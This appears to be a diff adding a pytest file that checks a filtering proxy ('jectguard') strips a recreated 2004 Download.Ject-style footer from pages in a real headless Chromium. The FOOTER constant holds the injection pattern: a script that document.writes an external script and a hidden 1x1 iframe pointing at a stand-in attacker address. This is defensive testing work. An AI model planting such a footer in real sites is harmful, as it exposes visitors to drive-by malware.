@@ -1,0 +1,294 @@
+"""A real browser through the real proxy: a Download.Ject-style footer is stripped before it runs.
+
+Headless Debian Chromium (``/usr/bin/chromium``, driven by the ``playwright``
+package; no browser is ever downloaded) goes through ``jectguard run`` to a local
+aiohttp origin whose page runs its own scripts and carries the footer the 2004
+attack appended to every page of compromised IIS servers: one inline script that
+``document.write``s a ``<script src>`` and a hidden 1x1 iframe pointing at the
+attacker. The attacker is a byte counter on this machine's non-loopback address,
+which is on the test's IP list.
+
+Each scenario proves three things: the page's own scripts ran; the attacker got
+nothing (not even a request the blocking addon would have refused: the proxy saw
+no request for it at all); the DOM holds no trace of the injected elements. A
+control run with stripping off shows the same page does inject them.
+
+Skipped only when Chromium or playwright is missing; with ``CI`` or
+``JG_REQUIRE_BROWSER`` set, missing them is a failure instead.
+"""
+
+from __future__ import annotations
+
+import asyncio
+import json
+import os
+import ssl
+import threading
+import time
+from collections.abc import Iterator
+from dataclasses import dataclass, field
+from pathlib import Path
+from typing import Any
+
+import pytest
+from aiohttp import web
+
+from .conftest import ATTACKER_IP, ROOT, ByteCounter, Proxy, make_cert, start_proxy
+
+CHROMIUM = Path("/usr/bin/chromium")
+ARTIFACTS = ROOT / "test-artifacts"
+NAV_TIMEOUT_MS = 15_000
+# After "load": time for any late request toward the attacker (an iframe, a retried script).
+SETTLE_SECONDS = 0.5
+CHROMIUM_ARGS = [
+    "--no-sandbox",
+    "--disable-gpu",
+    "--no-first-run",
+    "--disable-background-networking",
+    "--disable-component-update",
+    "--disable-sync",
+    "--disable-quic",
+    "--disable-dev-shm-usage",
+    # Chromium sends loopback requests around the proxy unless told otherwise.
+    "--proxy-bypass-list=<-loopback>",
+]
+
+PAGE = """<!DOCTYPE html>
+<html><head><meta charset="utf-8"><title>Shop news</title>
+<script src="/app.js"></script>
+</head><body>
+<h1>Shop news</h1>
+<p id="own">own script did not run</p>
+<p id="ext">external script did not run</p>
+<script>document.getElementById("own").textContent = "own script ran";</script>
+</body></html>
+"""
+
+# As in June 2004: appended after the document, written once per ten minutes (cookie).
+FOOTER = """<script>
+if (document.cookie.indexOf("jg_seen=") < 0) {{
+  document.cookie = "jg_seen=1; max-age=600; path=/";
+  document.write('<script src="{url}"></scr' + 'ipt>');
+  document.write('<iframe src="{url}" width=1 height=1 style="visibility:hidden"></iframe>');
+}}
+</script>
+"""
+
+APP_JS = 'window.addEventListener("DOMContentLoaded", () => {' \
+    ' document.getElementById("ext").textContent = "external script ran"; });'
+
+
+def _require(reason: str) -> None:
+    if os.environ.get("CI") or os.environ.get("JG_REQUIRE_BROWSER"):
+        pytest.fail(f"{reason} (required in CI: scripts/bootstrap.sh installs it)")
+    pytest.skip(reason)
+
+
+# -- the shop origin ----------------------------------------------------------------
+
+
+@dataclass
+class Shop:
+    """An origin (HTTP and HTTPS on 127.0.0.1) serving the infected page and its own script."""
+
+    attacker_url: str = ""
+    port: int = 0
+    tls_port: int = 0
+    requests: list[str] = field(default_factory=list)
+
+    def page(self) -> bytes:
+        return (PAGE + FOOTER.format(url=self.attacker_url)).encode()
+
+
+def _shop_app(shop: Shop) -> web.Application:
+    async def page(request: web.Request) -> web.Response:
+        shop.requests.append(request.path)
+        return web.Response(body=shop.page(), content_type="text/html", charset="utf-8",
+                            headers={"ETag": '"shop-v1"', "Cache-Control": "no-store"})
+
+    async def app_js(request: web.Request) -> web.Response:
+        shop.requests.append(request.path)
+        return web.Response(text=APP_JS, content_type="application/javascript")
+
+    app = web.Application()
+    app.router.add_get("/news", page)
+    app.router.add_get("/app.js", app_js)
+    return app
+
+
+@pytest.fixture(scope="module")
+def shop(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Shop]:
+    s = Shop()
+    cert, key = make_cert(tmp_path_factory.mktemp("shop"))
+    ctx = ssl.create_default_context(ssl.Purpose.CLIENT_AUTH)
+    ctx.load_cert_chain(cert, key)
+    loop = asyncio.new_event_loop()
+    ready = threading.Event()
+    runner = web.AppRunner(_shop_app(s), access_log=None)
+
+    async def start() -> None:
+        await runner.setup()
+        plain = web.TCPSite(runner, "127.0.0.1", 0)
+        secure = web.TCPSite(runner, "127.0.0.1", 0, ssl_context=ctx)
+        await plain.start()
+        await secure.start()
+        s.port = plain._server.sockets[0].getsockname()[1]  # type: ignore[union-attr]
+        s.tls_port = secure._server.sockets[0].getsockname()[1]  # type: ignore[union-attr]
+
+    def run() -> None:
+        asyncio.set_event_loop(loop)
+        loop.run_until_complete(start())
+        ready.set()
+        loop.run_forever()
+        loop.run_until_complete(runner.cleanup())
+        loop.close()
+
+    t = threading.Thread(target=run, name="shop", daemon=True)
+    t.start()
+    assert ready.wait(10), "shop origin did not start"
+    try:
+        yield s
+    finally:
+        loop.call_soon_threadsafe(loop.stop)
+        t.join(10)
+
+
+# -- the browser --------------------------------------------------------------------
+
+
+@pytest.fixture(scope="module")
+def browser() -> Iterator[Any]:
+    if not CHROMIUM.exists():
+        _require("Debian's chromium is not installed (/usr/bin/chromium)")
+    try:
+        from playwright.sync_api import sync_playwright
+    except ImportError:
+        _require("the playwright package is not installed")
+    with sync_playwright() as pw:
+        b = pw.chromium.launch(
+            executable_path=str(CHROMIUM), headless=True, args=CHROMIUM_ARGS, timeout=30_000
+        )
+        try:
+            yield b
+        finally:
+            b.close()
+
+
+@pytest.fixture(scope="module")
+def proxy_nostrip(
+    tmp_path_factory: pytest.TempPathFactory, lists_dir: Path
+) -> Iterator[Proxy]:
+    """The control: the same proxy with stripping off (blocking still on)."""
+    p = start_proxy(
+        tmp_path_factory.mktemp("nostrip"),
+        "--sources", str(lists_dir / "sources.toml"),
+        "--set", "ssl_insecure=true",
+        "--set", "jg_strip=false",
+    )
+    try:
+        yield p
+    finally:
+        p.stop()
+
+
+@pytest.fixture
+def infected(shop: Shop, attacker: ByteCounter) -> Shop:
+    assert ATTACKER_IP is not None
+    shop.attacker_url = f"http://{ATTACKER_IP}:{attacker.port}/dot.php"
+    return shop
+
+
+def events(proxy: Proxy) -> list[dict[str, Any]]:
+    out = []
+    for line in proxy.output().splitlines():
+        if line.startswith("{"):
+            try:
+                out.append(json.loads(line))
+            except ValueError:
+                continue
+    return out
+
+
+@dataclass
+class Visit:
+    own: str
+    ext: str
+    html: str
+    iframes: int
+    attacker_scripts: int
+    comments: list[str]
+
+
+def visit(browser: Any, proxy: Proxy, url: str, attacker_url: str, shot: str) -> Visit:
+    context = browser.new_context(
+        proxy={"server": proxy.url},
+        ignore_https_errors=True,  # tests only: the proxy's CA is a throwaway
+    )
+    try:
+        page = context.new_page()
+        page.set_default_timeout(NAV_TIMEOUT_MS)
+        page.goto(url, wait_until="load", timeout=NAV_TIMEOUT_MS)
+        time.sleep(SETTLE_SECONDS)
+        ARTIFACTS.mkdir(exist_ok=True)
+        page.screenshot(path=str(ARTIFACTS / shot), full_page=True)
+        return Visit(
+            own=page.inner_text("#own"),
+            ext=page.inner_text("#ext"),
+            html=page.content(),
+            iframes=page.locator("iframe").count(),
+            attacker_scripts=page.evaluate(
+                "(u) => [...document.scripts].filter(s => s.src === u).length", attacker_url
+            ),
+            comments=page.evaluate(
+                "() => { const it = document.createNodeIterator(document, NodeFilter.SHOW_COMMENT);"
+                " const out = []; for (let n; (n = it.nextNode());) out.push(n.data); return out; }"
+            ),
+        )
+    finally:
+        context.close()
+
+
+def _attempts(proxy: Proxy, attacker_url: str) -> list[str]:
+    """Proxy log lines showing the browser asked for this test's attacker (ip:port is unique).
+
+    Log lines, not block events: events carry the canonical URL, which drops the port.
+    Strip events name the URL too, as the removed element's: those are not requests.
+    """
+    where = attacker_url.split("/")[2]
+    return [line for line in proxy.output().splitlines()
+            if where in line and '"event":"strip"' not in line]
+
+
+@pytest.mark.parametrize("scheme", ["http", "https"])
+def test_footer_stripped_in_a_real_browser(
+    browser: Any, proxy: Proxy, infected: Shop, attacker: ByteCounter, scheme: str
+) -> None:
+    port = infected.port if scheme == "http" else infected.tls_port
+    url = f"{scheme}://good.test:{port}/news"
+    v = visit(browser, proxy, url, infected.attacker_url, f"strip-{scheme}.png")
+    assert v.own == "own script ran"
+    assert v.ext == "external script ran"
+    assert attacker.connections == 0 and attacker.received == b""
+    assert ATTACKER_IP not in v.html and "dot.php" not in v.html
+    assert v.iframes == 0 and v.attacker_scripts == 0
+    # The comment left in place of the footer (after </html>, so outside <html>).
+    assert any("jectguard: removed script" in c for c in v.comments), v.comments
+    assert _attempts(proxy, infected.attacker_url) == []  # the browser never even asked
+    strips = [e for e in events(proxy) if e.get("event") == "strip"
+              and str(e.get("url", "")).startswith(f"{scheme}://good.test:{port}/news")]
+    assert strips and strips[-1]["removed"] is True and strips[-1]["list"] == "e2e-ips"
+
+
+def test_control_without_stripping_the_footer_injects(
+    browser: Any, proxy_nostrip: Proxy, infected: Shop, attacker: ByteCounter
+) -> None:
+    """The same page with jg_strip=false: the footer runs (and only blocking saves the day)."""
+    url = f"http://good.test:{infected.port}/news"
+    v = visit(browser, proxy_nostrip, url, infected.attacker_url, "control-nostrip.png")
+    assert v.own == "own script ran"
+    assert v.iframes == 1 and v.attacker_scripts == 1  # the injection happened
+    deadline = time.monotonic() + 5
+    while not _attempts(proxy_nostrip, infected.attacker_url) and time.monotonic() < deadline:
+        time.sleep(0.1)
+    assert _attempts(proxy_nostrip, infected.attacker_url), "the browser requested the attacker"
+    assert attacker.connections == 0  # refused by the blocking addon, not stripped
